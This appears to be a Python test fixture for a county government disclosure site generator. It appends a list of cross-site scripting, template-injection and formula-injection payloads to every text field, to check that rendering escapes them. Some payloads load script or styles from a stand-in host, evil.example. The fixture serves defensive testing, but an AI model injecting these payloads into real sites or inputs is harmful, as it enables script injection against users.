"""Hostile words, and a county in which every text is hostile.

Enters: a linked county.  Leaves: the same county with words appended to every free text: names,
titles, labels of steps and exits, terms of the vocabularies, prose, numbers of documents.
"""

from __future__ import annotations

import dataclasses
from itertools import product
from typing import Any

from disclosure.basics.problem import Place
from disclosure.county.site import Site
from disclosure.schema.common import Placed
from disclosure.schema.compound import Many, Named, Ref
from disclosure.schema.declare import Key, Record
from disclosure.schema.kinds import Line, Prose
from disclosure.schema.records.county import County
from disclosure.schema.records.notices.notice import Notice
from disclosure.schema.records.powers.flow import Step
from disclosure.schema.records.powers.power import Power
from disclosure.schema.records.privacy_policy import Privacy
from disclosure.schema.records.unit import Unit

_ELEMENTS = (
    "<script>alert(1)</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<math><mi xlink:href=javascript:alert(1)>x",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>", "<base href=//evil.example/>", "<form action=javascript:alert(1)><button>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)>", "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>", "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<foreignObject><body onload=alert(1)></foreignObject>", "<use href='data:image/svg+xml,x#a'/>", "<animate onbegin=alert(1) attributeName=x>",
)  # fmt: skip
_BREAKS = ("{}", '"{}', "'>{}", '">{}', "</title>{}", "]]>{}")
_WORDS = (
    "[x](javascript:alert(1))", "[x](JaVaScRiPt&#58;alert(1))", "[x]( data:text/html,x)", "![x](//evil.example/x.png)",
    "[x]: javascript:alert(1)", "<javascript:alert(1)>", "`<script>`", "{{7*7}}", "{% raw %}", "${7*7}", "#{7*7}",
    '", URL="javascript:alert(1)", x="', "<<TABLE HREF='javascript:alert(1)'>>", "\\N\\G\\T", "];}digraph{", "a -> b:c;",
    "=HYPERLINK('javascript:alert(1)')", "@SUM(1)", "&lt;script&gt;", "&#60;script&#62;",
)  # fmt: skip
PAYLOADS = tuple(b.format(e) for b, e in product(_BREAKS, _ELEMENTS)) + _WORDS
ONE_OF_EACH = frozenset(
    n for n in range(len(PAYLOADS)) if n // len(_ELEMENTS) in (n % len(_BREAKS), len(_BREAKS))
)
"""Numbers of payloads that show every element, every way to break out, and all words."""

_VOCABULARY = {"层级", "职权类别", "办事主题", "载体"}


def county(site: Site, words: str) -> Site:
    """The county with ``words`` behind every free text."""
    records = {
        kind: found if kind is Privacy else _poison(found, words) for kind, found in site.records.items()
    }
    return dataclasses.replace(site, records=records)


def crowd(site: Site, *, whole: bool) -> Site:
    """The county with a notice for each payload alone, and a power with its flow, a body and a topic.

    What is more than a notice is made for one payload of each kind, or for the ``whole``.
    """
    notice, power, unit = (next(iter(of.values())) for of in (site.notices, site.powers, site.units))
    topic = site.county.topics[0]
    topics, notices, powers, units = [], {}, {}, {}
    for n, words in enumerate(PAYLOADS):
        code = f"P-{n}"
        notices[code] = dataclasses.replace(
            notice, code=code, name=words, body=words, number=words, source=words
        )
        if not n % 20:  # bodies multiply the lists of the site: a few are enough to show their labels
            units[code] = dataclasses.replace(
                unit, code=code, name=words, short="", about=words, posts=(), parent=None
            )
        if not whole and n not in ONE_OF_EACH:
            continue
        topics.append(dataclasses.replace(topic, code=code, name=words, note=words))
        tagged = dataclasses.replace(power, code=code, topics=(Ref("办事主题", words, power.at()),))
        powers[code] = dataclasses.replace(
            _poison(tagged, words), topics=tagged.topics, category=power.category
        )
        powers[code] = dataclasses.replace(powers[code], carriers=power.carriers)
    more = {
        County: {"": dataclasses.replace(site.county, topics=(*site.county.topics, *topics))},
        Notice: {**site.notices, **notices},
        Power: {**site.powers, **powers},
        Unit: {**site.units, **units},
    }
    return dataclasses.replace(site, records={**site.records, **more})


def _poison(value: Any, words: str) -> Any:
    if isinstance(value, Ref):
        return dataclasses.replace(value, code=value.code + words) if value.to in _VOCABULARY else value
    if isinstance(value, Record):
        return _record(value, words)
    if isinstance(value, tuple):
        return tuple(_poison(item, words) for item in value)
    if isinstance(value, dict):
        return {key: _poison(item, words) for key, item in value.items()}
    if dataclasses.is_dataclass(value) and not isinstance(value, Place):
        inner = {
            f.name: _poison(getattr(value, f.name), words)
            for f in dataclasses.fields(value)
            if f.name in ("branch", "of")
        }
        label = {"label": value.label + words} if hasattr(value, "branch") else {}
        return dataclasses.replace(value, **inner, **label)
    return value


def _record(value: Record, words: str) -> Record:
    changed = {
        name: _field(key, getattr(value, name), words) for name, key in type(value).keys().items()
    }
    if isinstance(value, Power):  # what linking adds has no key
        changed["differences"] = _poison(value.differences, words)
    if isinstance(value, Step):  # exits speak of a step by its code
        changed["code"] = value.code or value.name
    return dataclasses.replace(value, **changed)


def _field(key: Key, value: Any, words: str) -> Any:
    kind = key.kind
    if isinstance(kind, Line | Prose) and isinstance(value, str):
        return value + words if value else value
    if isinstance(kind, Many) and isinstance(kind.of, Line | Prose):
        return tuple(item + words for item in value)
    if isinstance(kind, Named):
        return tuple(
            (name + words, _poison(item, words) if not isinstance(item, str) else item + words)
            for name, item in value
        )
    if isinstance(value, Placed):
        return Placed(value.text + words, value.place)
    return _poison(value, words)
